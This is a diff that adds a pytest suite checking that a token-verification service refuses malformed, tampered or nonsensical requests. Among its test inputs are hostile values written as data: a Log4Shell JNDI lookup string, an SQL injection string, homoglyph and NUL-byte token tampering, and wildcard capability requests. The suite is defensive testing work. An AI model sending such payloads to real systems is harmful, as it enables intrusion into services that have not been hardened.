@@ -1,0 +1,162 @@
+"""Requests that make no sense are refused, never answered with 500 or with `valid`."""
+
+import socket
+from collections.abc import Callable
+
+import pytest
+import requests
+
+from support.eventually import eventually
+from support.manifests import api_key, member, organization
+from support.verifier_process import VerifierProcess
+from support.world import World
+from tenure.domain.tokens import Token
+
+JSON = {"Content-Type": "application/json"}
+
+
+@pytest.fixture
+def token(world: World, verifier: VerifierProcess) -> Token:
+    world.create(organization(), member("alice"), api_key("laptop", "alice"))
+    token = world.issue("laptop", within=30)["laptop"]
+    eventually(lambda: verifier.code(token) == "Valid", within=30, describe="the verifier knows the key")
+    return token
+
+
+HEADERS = {
+    "B-65 no Authorization": {},
+    "B-65 Bearer": {"Authorization": "Bearer"},
+    "B-65 Bearer and a space": {"Authorization": "Bearer "},
+    "B-65 Basic": {"Authorization": "Basic YWxpY2U6eA=="},
+    "B-71 CRLF is no header": {"Authorization": "Bearer a\tb"},
+    "B-71 log4j": {"X-Api-Key": "${jndi:ldap://example.com/a}"},
+    "B-71 SQL": {"X-Api-Key": "' OR 1=1 --"},
+    "B-71 long": {"X-Api-Key": "x" * 8000},
+}
+
+
+@pytest.mark.parametrize("headers", HEADERS.values(), ids=HEADERS)
+def test_without_a_token_nothing_opens(verifier: VerifierProcess, headers: dict[str, str]) -> None:
+    assert verifier.authorize(None, headers).status_code == 401
+
+
+MANGLED: dict[str, Callable[[str], str]] = {
+    "B-67 prefix": lambda text: "tmr" + text[3:],
+    "B-67 truncated": lambda text: text[:-1],
+    "B-67 one more": lambda text: text + "0",
+    "B-67 lower case": str.lower,
+    "B-67 newline": lambda text: text + "\n",
+    "B-67 space": lambda text: " " + text,
+    "B-67 percent": lambda text: text.replace("_", "%5F"),
+    "B-67 homoglyph": lambda text: text.replace("t", "\u0442", 1),
+    "B-67 a digit": lambda text: text[:20] + ("0" if text[20] != "0" else "1") + text[21:],
+    "B-71 NUL": lambda text: text + "\0",
+}
+
+
+@pytest.mark.parametrize("mangle", MANGLED.values(), ids=MANGLED)
+def test_a_mangled_token_is_none(verifier: VerifierProcess, token: Token, mangle: Callable[[str], str]) -> None:
+    assert verifier.verify(mangle(token.reveal())) == {"valid": False}
+
+
+BODIES: dict[str, tuple[bytes, int]] = {
+    "empty": (b"", 400),
+    "no JSON": (b"{", 400),
+    "a list": (b"[]", 400),
+    "null": (b"null", 400),
+    "no token": (b"{}", 400),
+    "a number": (b'{"token": 5}', 400),
+    "another field": (b'{"token": "x", "hash": "y"}', 400),
+    "bad UTF-8": (b'{"token": "\xff\xfe"}', 400),
+    "deep": (b"[" * 50000, 400),
+    "B-77 capability": (b'{"token": "x", "capability": "everything"}', 400),
+    "B-77 star": (b'{"token": "x", "capability": "*"}', 400),
+    "level None": (b'{"token": "x", "capability": "costs", "level": "None"}', 400),
+    "B-71 1 MB": (b'{"token": "' + b"x" * 1_000_000 + b'"}', 413),
+}
+
+
+@pytest.mark.parametrize(("body", "status"), BODIES.values(), ids=BODIES)
+def test_a_body_that_makes_no_sense_is_refused(verifier: VerifierProcess, body: bytes, status: int) -> None:
+    answer = requests.post(f"{verifier.url}/v1/verify", data=body, headers=JSON, timeout=10)
+    assert answer.status_code == status, answer.text
+    assert "valid" not in answer.json()
+
+
+REVIEWS = {
+    "B-73 no token": {},
+    "B-73 a number": {"token": 5},
+    "B-73 spec is a text": "x",
+    "B-73 spec is null": None,
+}
+
+
+@pytest.mark.parametrize("spec", REVIEWS.values(), ids=REVIEWS)
+def test_a_review_without_a_token_is_refused(verifier: VerifierProcess, spec: object) -> None:
+    assert verifier.review(spec).status_code == 400
+
+
+@pytest.mark.parametrize("text", ["", "eyJhbGciOiJSUzI1NiJ9.e30.c2ln", "x" * 60_000], ids=["empty", "a JWT", "60 kB"])
+def test_a_review_of_what_is_not_ours_authenticates_nobody(verifier: VerifierProcess, text: str) -> None:
+    assert verifier.review({"token": text}).json()["status"] == {"authenticated": False}
+
+
+def test_a_token_in_a_url_is_refused_and_not_logged(verifier: VerifierProcess, token: Token) -> None:
+    answer = requests.get(f"{verifier.url}/v1/authorize?key={token.reveal()}", timeout=10)
+    assert (answer.status_code, "header" in answer.json()["error"]) == (400, True)
+    assert token.reveal() not in verifier.log
+
+
+def test_two_tokens_are_one_too_many(verifier: VerifierProcess, token: Token) -> None:
+    assert verifier.authorize(token, {"X-Api-Key": token.reveal()}).status_code == 400
+    raw = (
+        f"GET /v1/authorize HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token.reveal()}\r\n"
+        f"Authorization: Bearer {token.reveal()}\r\nConnection: close\r\n\r\n"
+    )
+    assert b" 401 " in spoken(verifier, raw.encode())
+
+
+@pytest.mark.parametrize(
+    ("method", "path", "status"),
+    [
+        ("GET", "/v1/verify", 405),
+        ("PUT", "/v1/verify", 405),
+        ("POST", "/v1/authorize", 405),
+        ("GET", "/", 404),
+        ("GET", "/v2/verify", 404),
+        ("DELETE", "/metrics", 405),
+    ],
+)
+def test_other_paths_and_methods(verifier: VerifierProcess, method: str, path: str, status: int) -> None:
+    assert requests.request(method, verifier.url + path, timeout=10).status_code == status
+
+
+def test_a_kept_connection_sees_a_revocation(world: World, verifier: VerifierProcess, token: Token) -> None:
+    with requests.Session() as session:
+        headers = {"Authorization": f"Bearer {token.reveal()}"}
+        assert session.get(f"{verifier.url}/v1/authorize", headers=headers, timeout=10).status_code == 200
+        world.change_role("alice", "Viewer")
+
+        def refused() -> bool:
+            return session.get(f"{verifier.url}/v1/authorize", headers=headers, timeout=10).status_code == 401
+
+        eventually(refused, within=10, describe="the same connection is refused")
+
+
+def test_the_document_describes_what_is_served(verifier: VerifierProcess) -> None:
+    document = requests.get(f"{verifier.url}/openapi.json", timeout=10).json()
+    assert set(document["paths"]) == {"/v1/verify", "/v1/authorize", "/v1/tokenreview"}
+
+
+def test_nothing_of_this_left_a_traceback(verifier: VerifierProcess) -> None:
+    assert "Traceback" not in verifier.log
+
+
+def spoken(verifier: VerifierProcess, raw: bytes) -> bytes:
+    """Say something on a raw socket and return the answer."""
+    with socket.create_connection(("127.0.0.1", verifier.port), timeout=10) as connection:
+        connection.sendall(raw)
+        answer = b""
+        while part := connection.recv(65536):
+            answer += part
+        return answer
